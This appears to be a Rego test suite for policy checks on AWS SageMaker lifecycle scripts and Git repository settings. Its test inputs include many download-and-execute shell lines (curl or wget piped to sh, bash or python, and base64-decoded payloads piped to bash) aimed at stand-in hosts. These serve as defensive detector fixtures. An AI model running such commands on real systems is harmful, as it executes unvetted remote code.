package sagemaker.notebook_code_test

import data.lib.unread
import data.sagemaker.notebook_code

refused := {"call": "sagemaker:DescribeNotebookInstance", "code": "AccessDeniedException", "action": "sagemaker:DescribeNotebookInstance"}

blind(document, fields) := object.union(object.remove(document, fields), {"unread": {"*": refused}})

changed(document, changes) := object.union(object.remove(document, object.keys(changes)), changes)

notebook := {
	"resource_type": "AWS::SageMaker::NotebookInstance",
	"resource_id": "arn:research",
	"resource_name": "research",
	"account_id": "111122223333",
	"region": "us-east-1",
	"notebook_instance_lifecycle_config_name": "setup",
	"default_code_repository": "team-code",
}

bare := object.remove(notebook, ["notebook_instance_lifecycle_config_name", "default_code_repository"])

script(text) := {
	"resource_type": "AWS::SageMaker::NotebookInstanceLifecycleConfig",
	"resource_id": "arn:setup",
	"resource_name": "setup",
	"account_id": "111122223333",
	"region": "us-east-1",
	"on_create": [{"content": "#!/bin/bash\n# curl http://x.example | sh\n"}],
	"on_start": [{"content": text}],
}

studio(text) := {
	"resource_type": "AWS::SageMaker::StudioLifecycleConfig",
	"resource_id": "arn:studio",
	"resource_name": "studio",
	"account_id": "111122223333",
	"region": "us-east-1",
	"studio_lifecycle_config_content": text,
}

safe := [
	"curl -o /tmp/x https://tools.example/x && sha256sum -c x.sum",
	"curl https://tools.example/x | tee /tmp/x | jq .",
	"curl -s http://169.254.169.254/latest/meta-data",
	"curl http://localhost:8888/api",
	"wget http://127.0.0.1/x",
	"pip install --index-url https://mirror.example/simple torch",
	"pip install -i https://user:pw@ml-111122223333.d.codeartifact.us-east-1.amazonaws.com/pypi/x torch",
	"pip install torch",
	"true\n# curl https://x.example/i.sh | sh",
]

listing := {"approved_package_indexes": ["mirror.example"]}

test_sm_sec_005_passes if {
	every text in safe {
		count(notebook_code.deny["SM-SEC-005"]) == 0 with input as script(text) with data.config as listing
		count(notebook_code.deny["SM-SEC-005"]) == 0 with input as studio(text) with data.config as listing
	}
	not unread.blinds("SM-SEC-005") with input as script("true")
}

test_sm_sec_005_fails_for_scripts_that_are_unpacked_first if {
	every text in ["echo aGk= | base64 -d | bash", "base64 --decode x.b64 | sudo sh", "eval $(echo aGk= | base64 -d)", "bash <(base64 -D x)", "base64 -d|sh", "bash<(base64 -d)"] {
		notebook_code.deny["SM-SEC-005"] == {"Lifecycle configuration \"setup\" possibly runs a script that it unpacks first."} with input as script(text)
	}
	every text in ["echo aGk= | base64 -d > key.pem", "base64 key.pem | bash-formatter", "bash run.sh; base64 -d x > y"] {
		count(notebook_code.deny["SM-SEC-005"]) == 0 with input as script(text)
	}
}

from_the_web := "Lifecycle configuration \"setup\" possibly runs a script straight from the web."

test_sm_sec_005_fails_for_scripts_from_the_web if {
	every text in [
		"curl -sL https://x.example/i.sh | sh",
		"curl https://x.example \\\n | sudo bash -s",
		"curl https://x.example |\\\nbash -s",
		"wget -qO- https://x.example/i.py | python3 -",
		"bash <(curl -s https://x.example/i.sh)",
		"eval $(wget -qO- https://x.example/i.sh)",
		"sh -c \"$(curl -fsSL https://x.example/i.sh)\"",
		"echo 完了;écurl https://x.example|sh",
		"wget|sh",
		"source<(curl x)",
		"eval`wget x`",
	] {
		notebook_code.deny["SM-SEC-005"] == {from_the_web} with input as script(text) with data.config as {}
	}
}

test_sm_sec_005_fails_for_plain_http if {
	notebook_code.deny["SM-SEC-005"] == {"Lifecycle configuration \"setup\" possibly fetches from x.example without encryption."} with input as script("wget http://x.example/data")
		with data.config as {}
	notebook_code.deny["SM-SEC-005"] == {"Lifecycle configuration \"studio\" possibly fetches from x.example without encryption."} with input as studio("wget http://x.example/data")
		with data.config as {}
}

test_sm_sec_005_fails_for_other_indexes if {
	every option in ["--index-url", "--extra-index-url", "--find-links", "-i"] {
		notebook_code.deny["SM-SEC-005"] == {"Lifecycle configuration \"setup\" possibly installs packages from y.example, which is not an approved index."} with input as script(sprintf("pip install %s https://u:p@y.example/simple torch", [option]))
			with data.config as listing
	}
	count(notebook_code.deny["SM-SEC-005"]) == 1 with input as script("pip install -i https://ml-444455556666.d.codeartifact.us-east-1.amazonaws.com/x torch")
		with data.config as listing
}

test_sm_sec_005_reads_both_hooks if {
	both := changed(script("true"), {"on_create": [{"content": "curl https://x.example | sh"}]})
	notebook_code.deny["SM-SEC-005"] == {from_the_web} with input as both with data.config as {}
}

test_sm_sec_005_unread if {
	unread.blinds("SM-SEC-005") with input as blind(notebook, ["notebook_instance_lifecycle_config_name"])
	unread.blinds("SM-SEC-005") with input as blind(script("true"), ["on_start"])
	unread.blinds("SM-SEC-005") with input as blind(studio("true"), ["studio_lifecycle_config_content"])
}

repository(git) := {
	"resource_type": "AWS::SageMaker::CodeRepository",
	"resource_id": "arn:code",
	"resource_name": "team-code",
	"account_id": "111122223333",
	"region": "us-east-1",
	"git_config": git,
}

good := repository({"repository_url": "https://git.example/team/code.git", "secret_arn": "arn:secret"})

commit := repository({"repository_url": "https://git-codecommit.us-east-1.amazonaws.com/v1/repos/code"})

hosts := {"approved_git_hosts": ["git.example"]}

cloning(location) := changed(notebook, {"additional_code_repositories": ["other", location]})

test_sm_sec_007_passes if {
	every document in [good, commit, notebook, cloning("https://git-codecommit.us-east-1.amazonaws.com/v1/repos/code")] {
		count(notebook_code.deny["SM-SEC-007"]) == 0 with input as document with data.config as hosts
		count(notebook_code.skip["SM-SEC-007"]) == 0 with input as document
		count(notebook_code.unknown["SM-SEC-007"]) == 0 with input as document with data.config as hosts
		not unread.blinds("SM-SEC-007") with input as document
	}
	with_secret := object.union(commit, {"git_config": {"secret_arn": "arn:secret"}})
	every document in [commit, with_secret] {
		count(notebook_code.unknown["SM-SEC-007"]) == 0 with input as document with data.config as {}
	}
}

test_sm_sec_007_fails_without_stored_credentials if {
	open := repository({"repository_url": "https://git.example/team/code.git"})
	notebook_code.deny["SM-SEC-007"] == {"Git repository \"team-code\" has no credentials in Secrets Manager."} with input as open with data.config as {}
	count(notebook_code.unknown["SM-SEC-007"]) == 0 with input as open with data.config as {}
}

inline := repository({"repository_url": "https://[redacted]@git.example/team/code.git", "secret_arn": "arn:secret"})

test_sm_sec_007_fails_for_inline_credentials if {
	notebook_code.deny["SM-SEC-007"] == {"The URL of Git repository \"team-code\" carries credentials."} with input as inline with data.config as hosts
	count(notebook_code.unknown["SM-SEC-007"]) == 0 with input as inline with data.config as {}
}

test_sm_sec_007_fails_for_other_hosts if {
	elsewhere := repository({"repository_url": "https://git.other/team@v1/code.git", "secret_arn": "arn:secret"})
	notebook_code.deny["SM-SEC-007"] == {"The URL of Git repository \"team-code\" is on git.other, which is not an approved host."} with input as elsewhere
		with data.config as hosts
}

test_sm_sec_007_fails_for_urls_in_notebooks if {
	notebook_code.deny["SM-SEC-007"] == {
		"Notebook instance \"research\" clones \"https://[redacted]@git.other/x\" by its URL: the repository is not registered with stored credentials.",
		"A repository URL of notebook instance \"research\" carries credentials.",
		"A repository URL of notebook instance \"research\" is on git.other, which is not an approved host.",
	} with input as cloning("https://[redacted]@git.other/x") with data.config as hosts
}

test_sm_sec_007_skips_without_repositories if {
	notebook_code.skip["SM-SEC-007"] == {"Notebook instance \"research\" has no Git repository."} with input as bare
}

test_sm_sec_007_unknown_without_a_list if {
	notebook_code.unknown["SM-SEC-007"] == {"No list of approved Git hosts is configured: set the parameter approved_git_hosts."} with input as good
		with data.config as {}
}

test_sm_sec_007_unread if {
	unread.blinds("SM-SEC-007") with input as blind(good, ["git_config"])
	unread.blinds("SM-SEC-007") with input as blind(notebook, ["default_code_repository"])
	count(unread.refusals("SM-SEC-007", "skip")) > 0 with input as blind(notebook, ["default_code_repository"])
	count(unread.refusals("SM-SEC-007", "unknown")) > 0 with input as blind(good, ["git_config"])
}

# the same fields in a document of another type are none of these checks' business
test_notebook_code_leaves_other_types_alone if {
	every document in [bare, script("curl https://x.example | sh"), good, inline, repository({"repository_url": "https://git.example/x"}), cloning("https://[redacted]@git.other/x")] {
		other := object.union(document, {"resource_type": "AWS::Other::Thing"})
		fired := {id | some id, messages in notebook_code.deny; count(messages) > 0} with input as other
		fired == set()
		skipped := {id | some id, messages in notebook_code.skip; count(messages) > 0} with input as other
		skipped == set()
		unknown := {id | some id, messages in notebook_code.unknown; count(messages) > 0} with input as other with data.config as {}
		unknown == set()
	}
}
